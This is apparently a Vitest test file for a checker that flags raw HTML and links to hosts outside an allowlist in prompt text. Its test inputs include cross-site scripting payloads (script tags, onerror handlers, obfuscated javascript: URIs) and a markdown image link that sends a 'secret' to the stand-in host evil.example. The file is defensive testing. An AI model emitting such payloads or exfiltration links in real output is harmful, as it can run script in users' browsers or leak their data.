// G2: what a page would load, run or lead to, and what only looks like it.

import { describe, expect, it } from 'vitest';
import { markupIn } from '../../../src/prompts/checks/markup.ts';

const HOSTS = ['docs.python.org', 'developer.mozilla.org'];

describe('markup that a page would act on', () => {
  it.each([
    'See <b>this</b>',
    '<script>alert(1)</script>',
    '<IMG SRC=x onerror=alert(1)>',
    '<img/src=x>',
    '</div>',
    '<br>',
    '<a href="https://docs.python.org/3/">docs</a>',
    '<details><summary>Solution</summary>',
    '<svg onload=alert(1)>',
    '<foo bar="x">',
    '<x-card>',
    'text <!-- hidden --> text',
    '<!DOCTYPE html>',
    '<iframe\nsrc="https://evil.example"></iframe>',
    'an unclosed <img src="https://evil.example/',
    '```\n<img src=x>',
    '`over\n\n<img src=x>\n\nthe end`',
    '\\`<img src=x>`',
    '\\`` a ` <img src=x> `',
    '<img alt="`" src=x> `',
    '    ```\n<img src=x>\n    ```',
    '- ```\n<img src=x>\n  ```',
    '![x](https://evil.example/?q=secret)',
    '![x](https://docs.python.org/logo.png)',
    '![x][logo]\n\n[logo]: https://docs.python.org/logo.png',
    '![logo]\n\n[logo]: https://docs.python.org/logo.png',
    '[x](https://evil.example)',
    '[x](http://docs.python.org/3/)',
    '[x](//evil.example)',
    '[x](/admin/delete)',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x]( <https://evil.example> )',
    '[x](&#106;avascript:alert(1))',
    '[[x](https://evil.example)](https://docs.python.org/)',
    '[x]: https://evil.example',
    '> [x]: https://evil.example',
    '[x](https://docs.python.org@evil.example/)',
    '[x](https://docs.python.org.evil.example/)',
    '[x](https://docs.python.org\\.evil.example/)',
    '[x](https://docs.python.org&#46;evil.example/)',
    '[x](https://docs.python.org:8443/)',
    '<https://evil.example>',
    '<mailto:someone@evil.example>',
    'https://evil.example/path',
    'HTTPS://EVIL.EXAMPLE',
    'ftp://evil.example',
    'www.evil.example',
    'data:text/html,<script>',
    'javascript:alert(1)',
    `${'['.repeat(500)}x`,
  ])('G2: %j is found', (text) => expect(markupIn(text, HOSTS)).not.toBeNull());

  it.each([
    'Plain text, with **emphasis** and a list:\n- one\n- two',
    'if a < b and c > d then stop',
    'a<b, and x<5 or y>3',
    'x<a and y>b',
    'Use `List<int>` or `<T>` and `<div>`',
    'A List<int>, a Map<String, Integer> and a Box<S>',
    'function id<T>(x: T): T',
    'Generic<T extends Base>',
    '1 <2 and 3> 2, i <3 you',
    'Enter <name> and <your code> here',
    '```html\n<img src=x>\n<!-- a comment -->\n```',
    '- look:\n  ```html\n  <div>\n  ```\n- go on',
    '> ```html\n> <div>\n> ```',
    '`<script>` starts a script, ``a ` <b>`` is code',
    'The array `items[0]` and items[0](x), matrix[1][2]',
    '[note]: look at the second line',
    'What about this [one]?',
    'Great![1]',
    'The data: it has three parts; in JavaScript: use const',
    'a path such as src/app.ts or C:\\temp',
    '[docs](https://docs.python.org/3/library/functions.html#range)',
    '[docs](https://DOCS.python.org/3/ "title")',
    '<https://developer.mozilla.org/en-US/docs/Web>',
    'See https://docs.python.org/3/. Then go on.',
    '[x]: https://docs.python.org/3/',
    'Time 12:30, ratio 3:1, slice a[1:2], dict {a: 1}',
    '&lt;img&gt; is how it is written',
  ])('G2: %j is none', (text) => expect(markupIn(text, HOSTS)).toBeNull());

  it('tells what it is and what would be allowed, for whoever mends it', () => {
    expect(markupIn('See <b>this</b>', HOSTS)).toBe('has the raw HTML tag <b>; set code in backticks');
    expect(markupIn('https://evil.example/x', HOSTS)).toBe(
      'has a link to evil.example; links may lead to https://docs.python.org, https://developer.mozilla.org alone',
    );
    expect(markupIn('https://docs.python.org', [])).toBe('has a link to docs.python.org, and may have none');
  });
});
